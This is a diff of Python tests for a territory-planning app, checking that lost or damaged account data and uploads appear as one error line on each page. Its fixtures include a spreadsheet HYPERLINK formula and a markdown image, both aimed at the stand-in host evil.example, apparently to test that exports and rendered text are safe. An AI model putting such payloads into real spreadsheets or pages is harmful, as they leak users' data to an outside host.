@@ -22,7 +22,7 @@ from terr.view.text import markdown
 from terr.workspace import events, exports, imports, plans
 from terr.workspace.events import Seen
 
-PAGES = ("accounts", "plan", "scenarios", "reps", "reports", "settings")
+PAGES = ("accounts", "scores", "plan", "scenarios", "reps", "reports", "settings")
 FORMULA = '=HYPERLINK("http://evil.example?"&A1,"x")'
 IMAGE = "![x](http://evil.example/x.png)"
 ADDRESSES = (
@@ -189,9 +189,11 @@ def test_a_plan_whose_accounts_are_lost_is_one_line_and_the_others_work(open_app
     lost = start(app_ws)
     kept = start(app_ws, "RI", RHODE_ISLAND)
     root = tmp_path / "terr"
+    sha = app_ws.store.dataset(lost.dataset_id).sha256
     (root / "accounts" / f"{lost.dataset_id}.parquet").unlink()
+    (root / "uploads" / sha[:2] / sha).unlink()  # from which they would be made again
     for page in PAGES:
-        app_ws.datasets = type(app_ws.datasets)(8)  # as after a restart
+        app_ws.datasets, app_ws.intakes = (type(app_ws.datasets)(8) for _ in range(2))  # as after a restart
         app_ws.scores = type(app_ws.scores)()
         with caplog.at_level(logging.DEBUG):
             window = open_app(page, scenario=lost.id)
@@ -215,7 +217,7 @@ def test_an_upload_that_is_lost_is_one_line_on_its_page(open_app, app_ws, tmp_pa
         blob.unlink()
     else:
         blob.write_bytes(blob.read_bytes()[:20] if damage == "cut" else b"Account ID\nB-1")
-    app_ws.datasets = type(app_ws.datasets)(8)
+    app_ws.datasets, app_ws.intakes = (type(app_ws.datasets)(8) for _ in range(2))
     window = open_app("accounts")
     assert not window.exception
     assert "upload" in " ".join(e.value for e in window.error), lines(window)
@@ -227,7 +229,7 @@ def test_an_upload_that_is_lost_is_one_line_on_its_page(open_app, app_ws, tmp_pa
 def test_damaged_accounts_are_one_line(open_app, app_ws, tmp_path, damage):
     info = start(app_ws)
     (tmp_path / "terr" / "accounts" / f"{info.dataset_id}.parquet").write_bytes(damage)
-    app_ws.datasets = type(app_ws.datasets)(8)
+    app_ws.datasets, app_ws.intakes = (type(app_ws.datasets)(8) for _ in range(2))
     app_ws.scores = type(app_ws.scores)()
     window = open_app("plan", scenario=info.id)
     assert not window.exception
